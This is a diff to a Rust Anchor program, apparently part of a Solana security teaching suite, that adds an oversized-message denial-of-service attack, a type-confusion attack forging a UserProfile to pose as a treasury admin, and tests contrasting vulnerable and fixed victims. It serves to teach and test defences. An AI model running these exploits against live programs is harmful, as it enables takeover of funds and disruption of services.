@@ -1,5 +1,8 @@
 #![allow(unexpected_cfgs)]
 use anchor_lang::prelude::*;
+use anchor_lang::solana_program::instruction::{AccountMeta, Instruction};
+use anchor_lang::solana_program::program::invoke;
+use anchor_lang::Discriminator;
 
 declare_id!("HfbuN5JgV5nn1UNRVyCqCAmKoSHmCuxgFjFmwfgjy7sm");
 
@@ -99,6 +102,151 @@ pub mod missing_account_attacker {
         msg!("Attack log initialized for attacker: {}", ctx.accounts.attacker.key());
         Ok(())
     }
+
+    /// Realizes the DoS the vuln's STEP 4 comment describes: `set_message`
+    /// copies `msg` into the target with no length check, so a message
+    /// longer than the account's data buffer panics the victim program and
+    /// aborts the transaction — any caller can brick any flow that routes
+    /// through that instruction.
+    ///
+    /// **Against the vulnerable program**: the oversized copy panics (DoS)
+    /// **Against the fixed program**: rejected cleanly with `MessageTooLong`
+    pub fn dos_attack(ctx: Context<DosContext>, oversized: String) -> Result<()> {
+        msg!("🎯 Attacker: Sending oversized message to the victim...");
+        msg!("   Target buffer: {} bytes", ctx.accounts.target_account.data_len());
+        msg!("   Payload: {} bytes", oversized.len());
+
+        // The audit trail goes FIRST. When the log was only written after a
+        // surviving CPI, a victim that errored left no trace of the attempt;
+        // recording it up front (as a not-yet-successful attack) means every
+        // outcome short of a full transaction abort stays auditable. Off-chain
+        // there is no Clock sysvar, so a missing clock falls back to zero
+        // rather than killing the log write.
+        let attack_log = &mut ctx.accounts.attack_log;
+        attack_log.attacker = ctx.accounts.attacker.key();
+        attack_log.target = ctx.accounts.target_account.key();
+        attack_log.attack_type = AttackType::DenialOfService;
+        attack_log.succeeded = false;
+        attack_log.timestamp = Clock::get().map(|c| c.unix_timestamp).unwrap_or_default();
+
+        let mut data = SET_MESSAGE_DISCRIMINATOR.to_vec();
+        data.extend_from_slice(
+            &oversized
+                .try_to_vec()
+                .map_err(|_| AttackError::PreparationFailed)?,
+        );
+
+        // The CPI error is HANDLED, not propagated: letting a fix's clean
+        // `MessageTooLong` rejection unwind this transaction would revert
+        // the log above, making blocked attempts invisible. (A vuln that
+        // panics still aborts everything — nothing can out-log an abort.)
+        let outcome = invoke(
+            &Instruction {
+                program_id: ctx.accounts.victim_program.key(),
+                accounts: vec![AccountMeta::new(ctx.accounts.target_account.key(), false)],
+                data,
+            },
+            &[ctx.accounts.target_account.to_account_info()],
+        );
+        if outcome.is_err() {
+            msg!("❌ Attacker: victim rejected the oversized message");
+        } else {
+            msg!("❌ Attacker: victim absorbed the payload without crashing");
+        }
+
+        Ok(())
+    }
+
+    /// Demonstrates a deterministic discriminator-mismatch (type confusion) attack
+    ///
+    /// The attacker serializes a `UserProfile` — complete with the `UserProfile`
+    /// discriminator — into an account that a victim later treats as a
+    /// `TreasuryConfig`. Because both types start with a 32-byte `Pubkey`, a
+    /// victim that deserializes manually (skipping the discriminator check)
+    /// reads the attacker's `wallet` field as the treasury `admin`.
+    ///
+    /// **Against a manual deserializer (vuln)**: the attacker's wallet becomes admin
+    /// **Against `Account<TreasuryConfig>` (fix)**: rejected on discriminator mismatch
+    pub fn execute_type_confusion(ctx: Context<AttackContext>) -> Result<()> {
+        msg!("🎯 Attacker: Executing type-confusion attack...");
+        msg!("   Target account: {}", ctx.accounts.target_account.key());
+
+        // Craft a UserProfile whose leading Pubkey is the attacker's wallet.
+        // Offset-for-offset, this lines up with TreasuryConfig's 'admin' field.
+        let forged = UserProfile {
+            wallet: ctx.accounts.attacker.key(),
+            level: u16::MAX,
+        };
+        let mut bytes = <UserProfile as Discriminator>::DISCRIMINATOR.to_vec();
+        bytes.extend_from_slice(
+            &forged
+                .try_to_vec()
+                .map_err(|_| AttackError::PreparationFailed)?,
+        );
+
+        let mut data = ctx.accounts.target_account.try_borrow_mut_data()?;
+        require!(data.len() >= bytes.len(), AttackError::PreparationFailed);
+        data[..bytes.len()].copy_from_slice(&bytes);
+
+        // Record the attempt alongside the other attack types.
+        let attack_log = &mut ctx.accounts.attack_log;
+        attack_log.attacker = ctx.accounts.attacker.key();
+        attack_log.target = ctx.accounts.target_account.key();
+        attack_log.attack_type = AttackType::TypeConfusion;
+        attack_log.succeeded = true; // Will be updated by test harness
+        attack_log.timestamp = Clock::get()?.unix_timestamp;
+
+        msg!("✅ Attacker: Forged UserProfile written over the target");
+        msg!("   Manual deserializers now read the attacker as 'admin'");
+        Ok(())
+    }
+}
+
+/// The victim's `set_message` instruction discriminator
+/// (`sha256("global:set_message")[..8]`), shared by the vulnerable and
+/// fixed programs since both name the instruction identically.
+pub const SET_MESSAGE_DISCRIMINATOR: [u8; 8] = [59, 44, 48, 192, 49, 29, 155, 85];
+
+/// Reads the 'admin' field the way a careless victim would: skip the 8-byte
+/// discriminator WITHOUT verifying it, then take the next 32 bytes as a Pubkey.
+///
+/// This mirrors the manual-deserialization pattern that makes type confusion
+/// exploitable. A `UserProfile`'s `wallet` sits at the same offset as a
+/// `TreasuryConfig`'s `admin`, so this function happily misreads one as the other.
+pub fn read_admin_unchecked(data: &[u8]) -> Option<Pubkey> {
+    let bytes: [u8; 32] = data.get(8..40)?.try_into().ok()?;
+    Some(Pubkey::new_from_array(bytes))
+}
+
+/// [`common::Exploit`] registration for this program's type-confusion attack.
+///
+/// The attack succeeds when a forged `UserProfile` sits where a careless
+/// deserializer expects a `TreasuryConfig`, so the judge is simply: does the
+/// unchecked admin read come back as the attacker?
+pub struct TypeConfusionExploit;
+
+impl common::Exploit for TypeConfusionExploit {
+    fn name(&self) -> &'static str {
+        "type-confusion"
+    }
+
+    fn run(&self, ctx: &common::ExploitCtx) -> common::ExploitResult {
+        Ok(match read_admin_unchecked(ctx.target_data) {
+            Some(admin) if admin == ctx.attacker => common::Outcome::exploited(
+                "careless deserializer reads the attacker's wallet as the treasury admin",
+            ),
+            Some(_) => common::Outcome::blocked("admin field does not point at the attacker"),
+            None => common::Outcome::blocked("target too short to misread as a TreasuryConfig"),
+        })
+    }
+}
+
+impl common::SuccessOracle for TypeConfusionExploit {
+    /// Bytes overwritten: the admin slot of the post-attack target reads
+    /// back as the attacker, so the forged account really landed.
+    fn succeeded(&self, ctx: &common::ExploitCtx) -> bool {
+        read_admin_unchecked(ctx.target_data) == Some(ctx.attacker)
+    }
 }
 
 /// Context for executing the attack
@@ -124,6 +272,30 @@ pub struct AttackContext<'info> {
     pub attacker: Signer<'info>,
 }
 
+/// Context for the denial-of-service attack
+#[derive(Accounts)]
+pub struct DosContext<'info> {
+    /// CHECK: the victim-owned account whose buffer the oversized message
+    /// overruns; the whole point is that the VICTIM fails to bound the copy.
+    #[account(mut)]
+    pub target_account: UncheckedAccount<'info>,
+
+    /// Log account to track attack attempts
+    #[account(
+        mut,
+        seeds = [b"attack-log", attacker.key().as_ref()],
+        bump
+    )]
+    pub attack_log: Account<'info, AttackLog>,
+
+    /// The attacker executing this exploit
+    pub attacker: Signer<'info>,
+
+    /// CHECK: whichever set_message implementation the caller aims at —
+    /// vulnerable (panics) or fixed (rejects with MessageTooLong).
+    pub victim_program: UncheckedAccount<'info>,
+}
+
 /// Context for initializing the attack log
 #[derive(Accounts)]
 pub struct InitializeAttackLog<'info> {
@@ -161,6 +333,27 @@ pub enum AttackType {
     OwnershipSpoofing,      // Passing account owned by different program
     PdaBypass,              // Bypassing PDA derivation checks
     AuthorityEscalation,    // Modifying someone else's account
+    TypeConfusion,          // Serializing one type where another is expected
+    DenialOfService,        // Panicking the victim with oversized input
+}
+
+/// A treasury configuration as a victim program would define it.
+/// The first field is the admin Pubkey — the juicy target of type confusion.
+#[account]
+#[derive(Default)]
+pub struct TreasuryConfig {
+    pub admin: Pubkey,   // Who controls the treasury
+    pub fee_bps: u16,    // Protocol fee
+}
+
+/// A harmless-looking user profile whose layout deliberately mirrors
+/// `TreasuryConfig`: a leading Pubkey followed by a u16. Only the 8-byte
+/// discriminator distinguishes the two on-chain.
+#[account]
+#[derive(Default)]
+pub struct UserProfile {
+    pub wallet: Pubkey,  // Lines up with TreasuryConfig.admin
+    pub level: u16,      // Lines up with TreasuryConfig.fee_bps
 }
 
 #[error_code]
@@ -232,6 +425,368 @@ mod tests {
         assert_eq!(&data[..msg.len()], msg.as_bytes());
     }
 
+    #[test]
+    fn type_confusion_misreads_admin_in_vuln_but_fix_rejects() {
+        let attacker = Pubkey::new_unique();
+
+        // Precondition for the whole attack: the two layouts must collide,
+        // or the forged bytes would fail deserialization before the victim
+        // ever got to misread a field.
+        assert!(test_utils::layouts_collide::<TreasuryConfig, UserProfile>());
+
+        // Attacker-forged UserProfile carrying its own (valid) discriminator.
+        let forged = UserProfile {
+            wallet: attacker,
+            level: u16::MAX,
+        };
+        let mut bytes = <UserProfile as Discriminator>::DISCRIMINATOR.to_vec();
+        bytes.extend_from_slice(&forged.try_to_vec().unwrap());
+
+        // A manual deserializer skips the discriminator check and happily
+        // reads the attacker's wallet as the treasury admin.
+        assert_eq!(read_admin_unchecked(&bytes), Some(attacker));
+
+        // Account<TreasuryConfig> rejects the exact same bytes on the
+        // discriminator mismatch, even with the correct program owner.
+        let config_ai = Box::leak(Box::new(AccountInfo::new(
+            Box::leak(Box::new(Pubkey::new_unique())),
+            false,
+            true,
+            Box::leak(Box::new(1_000_000_000u64)),
+            Box::leak(bytes.into_boxed_slice()),
+            Box::leak(Box::new(crate::id())),
+            false,
+            Epoch::default(),
+        )));
+
+        let result = anchor_lang::prelude::Account::<TreasuryConfig>::try_from(&*config_ai);
+        assert!(result.is_err(), "discriminator check should reject a UserProfile");
+    }
+
+    #[test]
+    fn hardcoded_set_message_discriminator_matches_both_victims() {
+        assert_eq!(
+            SET_MESSAGE_DISCRIMINATOR,
+            <missing_account_vuln::instruction::SetMessage as Discriminator>::DISCRIMINATOR,
+        );
+        assert_eq!(
+            SET_MESSAGE_DISCRIMINATOR,
+            <missing_account_fix::instruction::SetMessage as Discriminator>::DISCRIMINATOR,
+        );
+    }
+
+    /// The oversized-message DoS end to end: the vulnerable handler dies in
+    /// its unbounded copy (any caller can abort any transaction routed
+    /// through it), while the fixed handler turns the identical payload
+    /// away with MessageTooLong and leaves the stored content untouched.
+    #[test]
+    fn dos_payload_panics_the_vuln_but_the_fix_rejects_it_cleanly() {
+        use std::panic::{catch_unwind, AssertUnwindSafe};
+
+        let oversized = "A".repeat(200);
+
+        // Vulnerable victim: 200 bytes into a 32-byte buffer.
+        let program_id = missing_account_vuln::id();
+        let any_unchecked = make_account(Pubkey::new_unique(), false, true, 32);
+        let mut accounts = missing_account_vuln::SetMessageVuln { any_unchecked };
+        let panicked = catch_unwind(AssertUnwindSafe(|| {
+            let ctx = Context::new(
+                &program_id,
+                &mut accounts,
+                &[],
+                missing_account_vuln::SetMessageVulnBumps {},
+            );
+            vuln_program::set_message(ctx, oversized.clone())
+        }))
+        .is_err();
+        assert!(panicked, "the unbounded copy must panic on oversized input");
+
+        // Fixed victim: same payload, clean refusal, state intact.
+        let fix_id = missing_account_fix::id();
+        let authority = Pubkey::new_unique();
+        let message_ai = Box::leak(Box::new(AccountInfo::new(
+            Box::leak(Box::new(Pubkey::new_unique())),
+            false,
+            true,
+            Box::leak(Box::new(1_000_000_000u64)),
+            Box::leak(serialize_message_box(authority, "init").into_boxed_slice()),
+            Box::leak(Box::new(fix_id)),
+            false,
+            Epoch::default(),
+        )));
+        let authority_ai = Box::leak(Box::new(AccountInfo::new(
+            Box::leak(Box::new(authority)),
+            true,
+            false,
+            Box::leak(Box::new(1_000_000_000u64)),
+            Box::leak(Vec::<u8>::new().into_boxed_slice()),
+            Box::leak(Box::new(Pubkey::new_unique())),
+            false,
+            Epoch::default(),
+        )));
+        let mut accounts = missing_account_fix::SetMessageSafe {
+            message_box: anchor_lang::prelude::Account::try_from(&*message_ai).unwrap(),
+            authority: anchor_lang::prelude::Signer::try_from(&*authority_ai).unwrap(),
+        };
+        let ctx = Context::new(
+            &fix_id,
+            &mut accounts,
+            &[],
+            missing_account_fix::SetMessageSafeBumps { message_box: 255 },
+        );
+        let err = missing_account_fix::missing_account_fix::set_message(ctx, oversized.clone())
+            .unwrap_err();
+        assert!(format!("{}", err).contains("message too long"));
+        assert_eq!(accounts.message_box.content, "init");
+    }
+
+    /// Drives the `dos_attack` handler itself far enough to prove it fires
+    /// the victim CPI. Off-chain `invoke` cannot execute the victim and
+    /// panics on contact, so the panic is the evidence the instruction was
+    /// dispatched — a handler that skipped the CPI would return Ok here.
+    #[test]
+    fn dos_attack_handler_dispatches_the_victim_cpi() {
+        use std::panic::{catch_unwind, AssertUnwindSafe};
+
+        let program_id = crate::id();
+        let attacker = Pubkey::new_unique();
+
+        let target_ai = Box::leak(Box::new(make_account(
+            missing_account_vuln::id(),
+            false,
+            true,
+            32,
+        )));
+        let log_state = AttackLog {
+            attacker,
+            target: Pubkey::default(),
+            attack_type: AttackType::None,
+            succeeded: false,
+            timestamp: 0,
+        };
+        let mut log_data = <AttackLog as Discriminator>::DISCRIMINATOR.to_vec();
+        log_data.extend_from_slice(&log_state.try_to_vec().unwrap());
+        let log_ai = Box::leak(Box::new(AccountInfo::new(
+            Box::leak(Box::new(Pubkey::new_unique())),
+            false,
+            true,
+            Box::leak(Box::new(1_000_000_000u64)),
+            Box::leak(log_data.into_boxed_slice()),
+            Box::leak(Box::new(program_id)),
+            false,
+            Epoch::default(),
+        )));
+        let attacker_ai = Box::leak(Box::new(AccountInfo::new(
+            Box::leak(Box::new(attacker)),
+            true,
+            false,
+            Box::leak(Box::new(1_000_000_000u64)),
+            Box::leak(Vec::<u8>::new().into_boxed_slice()),
+            Box::leak(Box::new(Pubkey::new_unique())),
+            false,
+            Epoch::default(),
+        )));
+        let victim_ai = Box::leak(Box::new(AccountInfo::new(
+            Box::leak(Box::new(missing_account_vuln::id())),
+            false,
+            false,
+            Box::leak(Box::new(1u64)),
+            Box::leak(Vec::<u8>::new().into_boxed_slice()),
+            Box::leak(Box::new(Pubkey::new_unique())),
+            true,
+            Epoch::default(),
+        )));
+
+        let mut accounts = DosContext {
+            target_account: UncheckedAccount::try_from(&*target_ai),
+            attack_log: anchor_lang::prelude::Account::try_from(&*log_ai).unwrap(),
+            attacker: anchor_lang::prelude::Signer::try_from(&*attacker_ai).unwrap(),
+            victim_program: UncheckedAccount::try_from(&*victim_ai),
+        };
+        let reached_cpi = catch_unwind(AssertUnwindSafe(|| {
+            let ctx = Context::new(
+                &program_id,
+                &mut accounts,
+                &[],
+                DosContextBumps { attack_log: 0 },
+            );
+            missing_account_attacker::dos_attack(ctx, "A".repeat(200))
+        }))
+        .is_err();
+        assert!(reached_cpi, "dos_attack must dispatch the set_message CPI");
+
+        // The attacker program itself wrote nothing to the target.
+        assert!(target_ai.try_borrow_data().unwrap().iter().all(|b| *b == 0));
+    }
+
+    /// Ordering proof for the audit trail: by the time `dos_attack` reaches
+    /// the victim CPI, the attempt is already in the log. Off-chain `invoke`
+    /// can't return the fix's clean rejection — it panics on contact — so
+    /// the panic marks the CPI boundary, and everything the log holds at
+    /// that moment was written before it. A failed attack against the fixed
+    /// program therefore persists as `succeeded = false` instead of
+    /// vanishing with the CPI error.
+    #[test]
+    fn attack_log_records_the_attempt_before_the_victim_cpi() {
+        use std::panic::{catch_unwind, AssertUnwindSafe};
+
+        let program_id = crate::id();
+        let attacker = Pubkey::new_unique();
+
+        // A fix-owned target: the side that turns the payload away.
+        let target_ai = Box::leak(Box::new(make_account(
+            missing_account_fix::id(),
+            false,
+            true,
+            32,
+        )));
+        let log_state = AttackLog {
+            attacker: Pubkey::default(),
+            target: Pubkey::default(),
+            attack_type: AttackType::None,
+            succeeded: false,
+            timestamp: 0,
+        };
+        let mut log_data = <AttackLog as Discriminator>::DISCRIMINATOR.to_vec();
+        log_data.extend_from_slice(&log_state.try_to_vec().unwrap());
+        let log_ai = Box::leak(Box::new(AccountInfo::new(
+            Box::leak(Box::new(Pubkey::new_unique())),
+            false,
+            true,
+            Box::leak(Box::new(1_000_000_000u64)),
+            Box::leak(log_data.into_boxed_slice()),
+            Box::leak(Box::new(program_id)),
+            false,
+            Epoch::default(),
+        )));
+        let attacker_ai = Box::leak(Box::new(AccountInfo::new(
+            Box::leak(Box::new(attacker)),
+            true,
+            false,
+            Box::leak(Box::new(1_000_000_000u64)),
+            Box::leak(Vec::<u8>::new().into_boxed_slice()),
+            Box::leak(Box::new(Pubkey::new_unique())),
+            false,
+            Epoch::default(),
+        )));
+        let victim_ai = Box::leak(Box::new(AccountInfo::new(
+            Box::leak(Box::new(missing_account_fix::id())),
+            false,
+            false,
+            Box::leak(Box::new(1u64)),
+            Box::leak(Vec::<u8>::new().into_boxed_slice()),
+            Box::leak(Box::new(Pubkey::new_unique())),
+            true,
+            Epoch::default(),
+        )));
+
+        let mut accounts = DosContext {
+            target_account: UncheckedAccount::try_from(&*target_ai),
+            attack_log: anchor_lang::prelude::Account::try_from(&*log_ai).unwrap(),
+            attacker: anchor_lang::prelude::Signer::try_from(&*attacker_ai).unwrap(),
+            victim_program: UncheckedAccount::try_from(&*victim_ai),
+        };
+        let reached_cpi = catch_unwind(AssertUnwindSafe(|| {
+            let ctx = Context::new(
+                &program_id,
+                &mut accounts,
+                &[],
+                DosContextBumps { attack_log: 0 },
+            );
+            missing_account_attacker::dos_attack(ctx, "A".repeat(200))
+        }))
+        .is_err();
+        assert!(reached_cpi, "dos_attack must dispatch the set_message CPI");
+
+        // Everything below was in place BEFORE the CPI fired.
+        let log = &accounts.attack_log;
+        assert_eq!(log.attacker, attacker);
+        assert_eq!(log.target, *target_ai.key);
+        assert!(matches!(log.attack_type, AttackType::DenialOfService));
+        assert!(!log.succeeded, "a blocked attempt must read as a failure");
+    }
+
+    /// The authority dimension of the attack, complementing the wrong-PDA
+    /// test below: here the target is owned by the right program, carries
+    /// the right discriminator, and even sits at the PDA for the attacker's
+    /// own key — but it records the VICTIM as authority, so `has_one` is the
+    /// constraint that refuses. The vuln, given byte-identical state,
+    /// overwrites it without ever asking who the authority is.
+    #[test]
+    fn program_owned_account_with_foreign_authority_blocks_fix_not_vuln() {
+        let fix_id = missing_account_fix::id();
+        let victim = Pubkey::new_unique();
+        let attacker = Pubkey::new_unique();
+
+        // Seeds pass (derived from the signing attacker), owner and
+        // discriminator pass — only the stored authority is someone else's.
+        let (pda, bump) =
+            Pubkey::find_program_address(&[b"message", attacker.as_ref()], &fix_id);
+        let message_ai = Box::leak(Box::new(AccountInfo::new(
+            Box::leak(Box::new(pda)),
+            false,
+            true,
+            Box::leak(Box::new(1_000_000_000u64)),
+            Box::leak(serialize_message_box(victim, "init").into_boxed_slice()),
+            Box::leak(Box::new(fix_id)),
+            false,
+            Epoch::default(),
+        )));
+        let attacker_ai = Box::leak(Box::new(AccountInfo::new(
+            Box::leak(Box::new(attacker)),
+            true,
+            false,
+            Box::leak(Box::new(1_000_000_000u64)),
+            Box::leak(Vec::<u8>::new().into_boxed_slice()),
+            Box::leak(Box::new(Pubkey::new_unique())),
+            false,
+            Epoch::default(),
+        )));
+
+        let infos: Box<[AccountInfo<'static>]> =
+            vec![(*message_ai).clone(), (*attacker_ai).clone()].into_boxed_slice();
+        let mut info_slice: &[AccountInfo] = Box::leak(infos);
+        let mut bumps = missing_account_fix::SetMessageSafeBumps { message_box: bump };
+        match missing_account_fix::SetMessageSafe::try_accounts(
+            &fix_id,
+            &mut info_slice,
+            &[],
+            &mut bumps,
+            &mut BTreeSet::new(),
+        ) {
+            Err(err) => assert!(format!("{}", err).contains("has one")),
+            Ok(_) => panic!("has_one must reject a signer who is not the recorded authority"),
+        }
+
+        // The vuln against byte-identical state: the write lands, authority
+        // field and all ignored.
+        let vuln_id = missing_account_vuln::id();
+        let target = Box::leak(Box::new(AccountInfo::new(
+            Box::leak(Box::new(Pubkey::new_unique())),
+            false,
+            true,
+            Box::leak(Box::new(1_000_000_000u64)),
+            Box::leak(serialize_message_box(victim, "init").into_boxed_slice()),
+            Box::leak(Box::new(vuln_id)),
+            false,
+            Epoch::default(),
+        )));
+        let mut accounts = missing_account_vuln::SetMessageVuln {
+            any_unchecked: (*target).clone(),
+        };
+        let ctx = Context::new(
+            &vuln_id,
+            &mut accounts,
+            &[],
+            missing_account_vuln::SetMessageVulnBumps {},
+        );
+        let msg = "authority-ignored".to_string();
+        vuln_program::set_message(ctx, msg.clone()).unwrap();
+
+        let data = target.try_borrow_data().unwrap();
+        assert_eq!(&data[..msg.len()], msg.as_bytes());
+    }
+
     #[test]
     fn attack_fails_against_fixed_program() {
         let program_id = missing_account_fix::id();